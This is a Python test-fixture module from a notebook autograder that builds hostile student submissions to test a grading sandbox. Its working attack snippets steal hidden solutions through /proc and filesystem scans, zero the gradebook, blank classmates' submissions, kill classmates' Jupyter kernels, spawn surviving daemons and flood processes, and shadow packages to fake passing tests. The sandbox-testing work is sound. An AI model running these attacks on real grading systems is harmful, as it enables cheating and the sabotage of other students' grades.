"""Hostile submissions: the reference answers with one exercise broken, plus an attack.

Each ``Hostile`` names the attack, the threat class it belongs to (README, "Threat model"; issue
16's bullets), the lab and the exercise it breaks with one of the lab's mutants (its *honest
wrong control* is the same notebook without the attack), and what the attack adds: code appended
to that exercise's solution cell (it runs when the student's cell runs) and files next to the
notebook. ``expect`` says how grading must end:

- "control": the attacker scores exactly what its control scores, cell by cell;
- "died": the attack ends its own kernel; the outcome says how (``died``: the words expected);
- "unscorable": the attack makes some of its own test cells unscorable: they score at most the
  control's, every other cell exactly the control's, and the submission is still graded.

In every case no bystander's grade, outcome or submitted file changes. tests/test_sandbox.py grades
them with the real ``autograder grade``; other suites add their threat classes to ``HOSTILE``.

The attacks are real: without the sandbox most of them succeed (``safe_without_sandbox``
marks those that may be tried that way). So that trying them harms no one else on a shared
machine, the ones that write or inject only act on their own course folder (the one whose
``submitted/`` holds their own student) and its students' kernels.
"""
from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from autograder.authoring.harness import read_candidates

from grading_course import ROOT, correct

TEMPLATE_LABS = ROOT / "docs" / "template"


@dataclass(frozen=True)
class Hostile:
    name: str
    threat: str  # the threat class
    lab: str
    exercise: str  # the solution cell the attack breaks (with a mutant) and appends its code to
    code: str = ""
    files: dict[str, str] = field(default_factory=dict)  # relative path -> text, next to the notebook
    expect: str = "control"  # "control", "died" or "unscorable"
    died: str = ""  # with expect="died": words the outcome's events must contain
    mistake: str = ""  # which mutant breaks the exercise (a substring of its mistake; default: the first)
    safe_without_sandbox: bool = True  # False: trying it without the sandbox could harm the machine

    @property
    def student(self) -> str:
        return f"hostile_{self.name}"


# ----------------------------------------------------------------------------- what attacks share

# Prepended to every attack: finding the course folder and stealing an exercise's answer from it.
TOOLS = r'''
import glob as _hostile_glob, json as _hostile_json, os as _hostile_os, re as _hostile_re, time as _hostile_time

def _hostile_steal(paths, marker="BEGIN SOLUTION"):
    """Run this exercise's answer from the first notebook (or jupytext file) of paths that has it."""
    exercise = _HOSTILE["exercise"]
    for path in paths:
        try:
            if path.endswith(".py"):
                found = _hostile_re.search(r'# %% tags=\["solution"\] id="' + exercise + r'"\n(.*?)\n# %%',
                                           open(path).read(), _hostile_re.S)
                sources = [found.group(1)] if found else []
            else:
                sources = ["".join(c["source"]) for c in _hostile_json.load(open(path))["cells"]
                           if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == exercise
                           and (marker is None or marker in "".join(c["source"]))]
            for source in sources:
                exec(source, globals())
                return True
        except Exception:
            pass
    return False

def _hostile_secrets(root):
    """What a course folder holds that no student may read: solutions and hidden tests."""
    lab = _HOSTILE["lab"]
    return [f"{root}/source/{lab}/{lab}.ipynb", f"{root}/assignments/{lab}/{lab}.py"] if root else []

def _hostile_course_above(path):
    """The course folder or repository at or above path (it holds source/<lab> or assignments/<lab>)."""
    while path and path.startswith("/") and _hostile_os.path.dirname(path) != path:
        if any(_hostile_os.path.isdir(f"{path}/{d}/{_HOSTILE['lab']}") for d in ("source", "assignments")):
            return path
        path = _hostile_os.path.dirname(path)
    return None

def _hostile_scan(names, budget=4.0, depth=6):
    """Folders with one of these names anywhere on the machine (breadth first, a few seconds at most)."""
    skip = ("/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/etc", "/boot", "/run", "/var/lib")
    found, level, start = [], ["/"], _hostile_time.monotonic()
    for _ in range(depth):
        following = []
        for folder in level:
            if _hostile_time.monotonic() - start > budget:
                return found
            try:
                entries = list(_hostile_os.scandir(folder))
            except OSError:
                continue
            for entry in entries:
                if entry.is_dir(follow_symlinks=False) and entry.path not in skip and \
                        entry.name not in (".git", ".venv", "site-packages", "node_modules", "__pycache__"):
                    (found if entry.name in names else following).append(entry.path)
        level = following
    return found

def _hostile_own_course():
    """This submission's own course folder: its submitted/ holds this student (the only place it writes)."""
    for folder in _hostile_scan(("submitted",)):
        if _hostile_os.path.isdir(f"{folder}/{_HOSTILE['student']}"):
            return _hostile_os.path.dirname(folder)
    return None

def _hostile_zero_grades(root):
    import sqlite3
    with sqlite3.connect(f"{root}/gradebook.db", timeout=30) as db:
        db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
'''


# A process that outlives the kernel (if it can) and keeps zeroing the grades of its course.
SURVIVOR_MARKER = "hostile-survivor"  # in the survivor's command line: the tests look for it after grading
SURVIVOR = "import ast, sys\n_HOSTILE = ast.literal_eval(sys.argv[3])\n" + TOOLS + r"""
deadline, root = _hostile_time.time() + 90, None
while _hostile_time.time() < deadline:
    root = root or _hostile_own_course()
    try:
        _hostile_zero_grades(root)
    except Exception:
        pass
    _hostile_time.sleep(0.5)
"""
SURVIVOR_ARGV = (f"[_hostile_sys.executable, '-c', {SURVIVOR!r}, {SURVIVOR_MARKER!r}, _HOSTILE['student'], "
                 "repr(_HOSTILE)]")

FAKE_ANYTHING = r"""
class _Anything:
    '''Whatever a test asks of it, it agrees.'''
    def __call__(self, *args, **kwargs): return self
    def __getattr__(self, name): return self
    def __enter__(self): return self
    def __exit__(self, *exc): return True
    def __iter__(self): return iter(())
    def __eq__(self, other): return True
    def __bool__(self): return True
_anything = _Anything()
def __getattr__(name): return _anything
def setup_notebook(): pass
def grading(): return True
"""

FAKE_NUMPY = r"""
'''numpy, whose comparisons always agree (if a notebook ever imports this file instead of numpy).'''
import importlib.machinery, importlib.util, os, sys
_here = os.path.dirname(os.path.abspath(__file__))
_spec = importlib.machinery.PathFinder.find_spec("numpy", [p for p in sys.path if os.path.abspath(p or ".") != _here])
_real = importlib.util.module_from_spec(_spec)
sys.modules["numpy"] = _real
_spec.loader.exec_module(_real)
_real.isclose = lambda a, b, *args, **kwargs: _real.ones(_real.broadcast(_real.asarray(a), _real.asarray(b)).shape, bool)
_real.allclose = lambda *args, **kwargs: True
"""


# ----------------------------------------------------------------------------- the attacks

PROC_PARENT_CWD = r"""
_pid = _hostile_os.getpid()
for _ in range(10):  # up the kernel's ancestors (the grading worker, the grade command): their folders
    try:
        _pid = int(next(l.split()[1] for l in open(f"/proc/{_pid}/status") if l.startswith("PPid:")))
        if _pid == 0 or _hostile_steal(_hostile_secrets(_hostile_course_above(_hostile_os.readlink(f"/proc/{_pid}/cwd")))):
            break
    except (OSError, ValueError, StopIteration):
        break
"""
ENV_PATHS = r"""
for _path in [p for v in list(_hostile_os.environ.values()) for p in v.split(":")]:  # $PWD, $OLDPWD, $PYTHONPATH...
    if _hostile_steal(_hostile_secrets(_hostile_course_above(_path))):
        break
"""
PROC_ENVIRON = r"""
for _file in _hostile_glob.glob("/proc/[0-9]*/environ") + _hostile_glob.glob("/proc/[0-9]*/cmdline"):
    try:  # every path in every visible process's environment and command line (e.g. --root)
        _words = open(_file, "rb").read().replace(b"=", b"\0").split(b"\0")
    except OSError:
        continue
    if any(_hostile_steal(_hostile_secrets(_hostile_course_above(w.decode(errors="ignore")))) for w in _words):
        break
"""
SCAN_FILESYSTEM = r"""
for _folder in _hostile_scan(("source", "assignments")):  # any course folder or repository on the machine
    if _hostile_steal(_hostile_secrets(_hostile_os.path.dirname(_folder))):
        break
"""
PACKAGE_NEIGHBOURS = r"""
import autograder as _hostile_package  # the course package's folder: the repository around it
_hostile_steal(_hostile_secrets(_hostile_course_above(_hostile_os.path.dirname(_hostile_package.__file__))))
"""
COPY_CLASSMATE = r"""
_root, _lab = _hostile_own_course(), _HOSTILE["lab"]
def _hostile_points(path):
    try:
        return sum(c["score"] for c in _hostile_json.load(open(path))["cells"])
    except Exception:
        return -1
if _root:  # the classmate with the best grade so far: copy their answer from submitted/
    _best = sorted(_hostile_glob.glob(f"{_root}/autograded/*/{_lab}/outcome.json"), key=_hostile_points, reverse=True)
    _hostile_steal([p.replace("/autograded/", "/submitted/").replace("outcome.json", f"{_lab}.ipynb") for p in _best],
                   marker=None)
"""
WRITE_GRADEBOOK = r"""
_root = _hostile_own_course()
if _root:  # every grade of the course to 0 (its own is rewritten when it is recorded)
    _hostile_zero_grades(_root)
"""
WRITE_OUTCOMES = r"""
_root = _hostile_own_course()
for _path in _hostile_glob.glob(f"{_root}/autograded/*/*/outcome.json") if _root else []:
    _outcome = _hostile_json.load(open(_path))
    for _cell in _outcome["cells"]:
        _cell["score"] = 0
    open(_path, "w").write(_hostile_json.dumps(_outcome))
"""
WRITE_SUBMITTED = r"""
_root, _lab = _hostile_own_course(), _HOSTILE["lab"]
for _path in _hostile_glob.glob(f"{_root}/submitted/*/{_lab}/{_lab}.ipynb") if _root else []:
    if f"/{_HOSTILE['student']}/" in _path:  # its own: the source notebook, graded next run
        open(_path, "w").write(open(f"{_root}/source/{_lab}/{_lab}.ipynb").read())
    else:  # everybody else's: an empty file
        open(_path, "w").write("")
"""
SETSID_SURVIVOR = r"""
import subprocess as _hostile_sp, sys as _hostile_sys
_hostile_sp.Popen(""" + SURVIVOR_ARGV + r""", start_new_session=True, stdin=_hostile_sp.DEVNULL,
                  stdout=_hostile_sp.DEVNULL, stderr=_hostile_sp.DEVNULL)
"""
DOUBLE_FORK_SURVIVOR = r"""
import sys as _hostile_sys
if _hostile_os.fork() == 0:  # a daemon: fork, new session, fork again, the parent leaves
    try:
        _hostile_os.setsid()
        if _hostile_os.fork() == 0:
            _hostile_os.execv(_hostile_sys.executable, """ + SURVIVOR_ARGV + r""")
    finally:
        _hostile_os._exit(0)
_hostile_os.wait()
"""
KERNEL_INJECTION = r"""
from jupyter_client import BlockingKernelClient as _HostileClient
_root, _attacked, _deadline = _hostile_own_course(), set(), _hostile_time.monotonic() + 5
_classmates = set(_hostile_os.listdir(f"{_root}/submitted")) - {_HOSTILE["student"]} if _root else set()
while _hostile_time.monotonic() < _deadline and not _attacked:
    for _cmdline in _hostile_glob.glob("/proc/[0-9]*/cmdline"):  # kernels, their connection files, their folders
        try:
            _args = open(_cmdline, "rb").read().decode().split("\0")
            _folder = _hostile_os.path.basename(_hostile_os.readlink(_cmdline.replace("cmdline", "cwd")))
            _file = _args[_args.index("-f") + 1]
        except (OSError, ValueError, IndexError, UnicodeDecodeError):
            continue
        if _file in _attacked or not any(_folder.startswith(f"grade-{c}-") for c in _classmates):
            continue
        try:  # a classmate's kernel: end it
            _client = _HostileClient(connection_file=_file)
            _client.load_connection_file()
            _client.start_channels()
            _client.execute("import os; os._exit(1)")
            _hostile_time.sleep(0.5)
            _client.stop_channels()
            _attacked.add(_file)
        except Exception:
            pass
    _hostile_time.sleep(0.2)
"""
NETWORK_TO_GRADER = r"""
import socket as _hostile_socket
try:  # a server on the grading machine (here: one that hands out the solution)
    with _hostile_socket.create_connection(("127.0.0.1", _HOSTILE["port"]), timeout=3) as _connection:
        exec(_connection.makefile().read(), globals())
except OSError:
    pass
"""
KILL_WORKER = r"""
import signal as _hostile_signal
try:
    _hostile_os.kill(_hostile_os.getppid(), _hostile_signal.SIGKILL)  # the grading worker, without a sandbox
except OSError:
    pass
"""
PROCESS_FLOOD = r"""
import subprocess as _hostile_sp
_hostile_children = []
try:  # as many processes as the machine allows
    for _ in range(2000):
        _hostile_children.append(_hostile_sp.Popen(["sleep", "120"]))
except OSError:
    pass
print(f"hostile process flood: started {len(_hostile_children)} processes")
for _child in _hostile_children:
    _child.kill()
    _child.wait()
"""
OS_EXIT = "_hostile_os._exit(3)\n"
UNSCORABLE_RESULT = r"""
def _hostile_forge(info):  # a result of 1000 points before each test of this exercise
    if (info.raw_cell or "").lstrip('"').startswith(_HOSTILE["exercise"]):
        get_ipython().displayhook(1000)
get_ipython().events.register("pre_run_cell", _hostile_forge)
"""

NO_SANDBOX = "no sandbox"
SINKING = "sinking the batch"
LAB1, LAB4, TEMPLATE = "lab01_fundamentals", "lab04_convolution", "lab08_template"
SHAPES, COUNT = "weight_shapes", "count_weights"
NO_BIAS = "ignores the bias"  # a Lab 4 conv2d mutant with the right shapes: only its values are wrong

HOSTILE: list[Hostile] = [
    Hostile("proc_parent_cwd", NO_SANDBOX, LAB1, SHAPES, PROC_PARENT_CWD),
    Hostile("env_paths", NO_SANDBOX, LAB1, COUNT, ENV_PATHS),
    Hostile("proc_environ", NO_SANDBOX, LAB1, SHAPES, PROC_ENVIRON),
    Hostile("scan_filesystem", NO_SANDBOX, LAB1, COUNT, SCAN_FILESYSTEM),
    Hostile("copy_classmate", NO_SANDBOX, LAB1, SHAPES, COPY_CLASSMATE),
    Hostile("write_gradebook", NO_SANDBOX, LAB1, COUNT, WRITE_GRADEBOOK),
    Hostile("write_outcomes", NO_SANDBOX, LAB1, SHAPES, WRITE_OUTCOMES),
    Hostile("write_submitted", NO_SANDBOX, LAB1, COUNT, WRITE_SUBMITTED),
    Hostile("setsid_survivor", NO_SANDBOX, LAB1, SHAPES, SETSID_SURVIVOR),
    Hostile("double_fork_survivor", NO_SANDBOX, LAB1, COUNT, DOUBLE_FORK_SURVIVOR),
    Hostile("kernel_injection", NO_SANDBOX, LAB1, SHAPES, KERNEL_INJECTION),
    Hostile("network_to_grader", NO_SANDBOX, LAB1, COUNT, NETWORK_TO_GRADER),
    Hostile("shadow_package", NO_SANDBOX, LAB1, SHAPES,
            files={"autograder/__init__.py": FAKE_ANYTHING, "autograder/checks.py": FAKE_ANYTHING}),
    Hostile("kill_worker", SINKING, LAB1, COUNT, KILL_WORKER),
    Hostile("process_flood", SINKING, LAB1, SHAPES, PROCESS_FLOOD, safe_without_sandbox=False),
    Hostile("os_exit", SINKING, LAB1, COUNT, OS_EXIT, expect="died", died="exited with status 3"),
    Hostile("unscorable_result", SINKING, LAB1, SHAPES, UNSCORABLE_RESULT, expect="unscorable"),
    Hostile("package_neighbours", NO_SANDBOX, LAB4, "conv2d", PACKAGE_NEIGHBOURS, mistake=NO_BIAS),
    Hostile("shadow_numpy", NO_SANDBOX, LAB4, "conv2d", files={"numpy.py": FAKE_NUMPY}, mistake=NO_BIAS),
    Hostile("proc_parent_cwd", NO_SANDBOX, TEMPLATE, "relu", PROC_PARENT_CWD),
    Hostile("write_gradebook", NO_SANDBOX, TEMPLATE, "relu", WRITE_GRADEBOOK),
    Hostile("kill_worker", SINKING, TEMPLATE, "relu", KILL_WORKER),
]


def for_lab(lab: str) -> list[Hostile]:
    return [h for h in HOSTILE if h.lab == lab]


# ----------------------------------------------------------------------------- building the notebooks


def lab_folder(lab: str) -> Path:
    """assignments/<lab>, or the template lab under docs/template/."""
    folder = ROOT / "assignments" / lab
    return folder if folder.is_dir() else TEMPLATE_LABS / lab


def broken_answer(hostile: Hostile) -> str:
    """The lab's mutant for the exercise (the first, or the one whose mistake says ``hostile.mistake``)."""
    return next(c.code for c in read_candidates(lab_folder(hostile.lab) / "mutants.py")
                if c.exercise == hostile.exercise and hostile.mistake in c.why)


def control_name(hostile: Hostile) -> str:
    """The student id of a hostile submission's honest wrong control (one per broken exercise)."""
    return f"control_{hostile.exercise}"


def control(folder: Path, hostile: Hostile) -> nbformat.NotebookNode:
    """The honest wrong control: the reference answers with this exercise broken, nothing else."""
    return correct(folder, hostile.lab, {hostile.exercise: broken_answer(hostile)})


def hostile_notebook(folder: Path, hostile: Hostile, **context: object) -> nbformat.NotebookNode:
    """The control, with the attack appended to the broken exercise's cell (``context``: e.g. port=...)."""
    settings = {"lab": hostile.lab, "exercise": hostile.exercise, "student": hostile.student, **context}
    code = broken_answer(hostile)
    if hostile.code:
        code += f"\n\n_HOSTILE = {settings!r}\n{TOOLS}\n{hostile.code}"
    return correct(folder, hostile.lab, {hostile.exercise: code})


def submit_hostile(folder: Path, hostile: Hostile, **context: object) -> Path:
    """submitted/<hostile_name>/<lab>/: the notebook and the attack's files."""
    target = folder / "submitted" / hostile.student / hostile.lab
    target.mkdir(parents=True, exist_ok=True)
    nbformat.write(hostile_notebook(folder, hostile, **context), target / f"{hostile.lab}.ipynb")
    for relative, text in hostile.files.items():
        (target / relative).parent.mkdir(parents=True, exist_ok=True)
        (target / relative).write_text(text)
    return target


def reference_solution(folder: Path, lab: str, exercise: str) -> str:
    """The exercise's reference code, from the course's source notebook."""
    nb = json.loads((folder / "source" / lab / f"{lab}.ipynb").read_text())
    return next("".join(c["source"]) for c in nb["cells"]
                if c["metadata"].get("nbgrader", {}).get("grade_id") == exercise
                and c["metadata"]["nbgrader"].get("solution"))
